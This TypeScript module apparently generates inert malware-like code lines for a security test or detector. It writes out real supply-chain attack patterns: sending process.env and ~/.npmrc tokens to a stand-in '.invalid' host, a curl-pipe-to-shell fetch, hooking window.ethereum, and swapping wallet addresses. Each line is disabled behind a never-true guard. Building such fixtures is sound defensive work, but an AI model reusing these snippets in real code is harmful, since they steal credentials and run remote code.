import type { Random } from '../random.js';

/** What a payload leaves behind if ever it ran: enough to find it, and nothing else. */
const marker = 'globalThis.__reprove_marker = 1';

/** Gives an expression that loads a module of node. */
type Load = (module: string) => string;

/**
 * What stolen code does, as it was seen: send the environment, fetch and run a command, read a token, take over a wallet, replace
 * addresses. Hosts end in `.invalid`, which resolves nowhere.
 */
const deeds: readonly ((load: Load) => string)[] = [
  (load) =>
    `${load('https')}.request({ hostname: 'marker.invalid', method: 'POST', path: '/collect' }).end(JSON.stringify(process.env));`,
  (load) => `${load('child_process')}.exec('curl -s http://marker.invalid/stage2 | sh');`,
  (load) =>
    `fetch('https://marker.invalid/token', { method: 'POST', body: ${load('fs')}.readFileSync(${load('os')}.homedir() + '/.npmrc') });`,
  () =>
    "if (typeof window !== 'undefined' && window.ethereum) { var send = window.ethereum.request; window.ethereum.request = function (call) { fetch('https://marker.invalid/wallet?' + JSON.stringify(call)); return send.apply(this, arguments); }; }",
  (load) =>
    `${load('child_process')}.spawn(process.execPath, ['-e', 'fetch("http://marker.invalid/run")'], { detached: true, stdio: 'ignore' }).unref();`,
  () =>
    "var open = globalThis.fetch; globalThis.fetch = function (url, options) { if (options && options.body) options.body = String(options.body).replace(/0x[0-9a-f]{40}/gi, '0x000000000000000000000000000000000000dead'); return open(url, options); };",
];

/**
 * One line of code that looks like a payload and does nothing: the deed stands behind a condition that is never true.
 *
 * @param module Whether it stands in a module, where there is no `require`.
 */
export function payload(random: Random, module: boolean): string {
  const deed = random.pick(deeds)!;
  const load: Load = (name) => (module ? `(await import('node:${name}'))` : `require('${name}')`);
  const head = module ? 'async function' : 'function';
  return `;(${head} () { ${marker}; if (globalThis.__reprove_never !== 'run') return; ${deed(load)} })();`;
}

/** A script that is nothing but payload, as long as a packed program where asked for. */
export function payloadFile(random: Random, module: boolean, bytes = 0): string {
  const lines = [payload(random, module).slice(1)];
  for (let at = 0; lines.join('\n').length < bytes; at++)
    lines.push(
      `var part${at} = ${JSON.stringify(
        random
          .shuffle([...'0123456789abcdefghijklmnopqrstuvwxyz'])
          .join('')
          .repeat(40),
      )};`,
    );
  return `${lines.join('\n')}\n`;
}
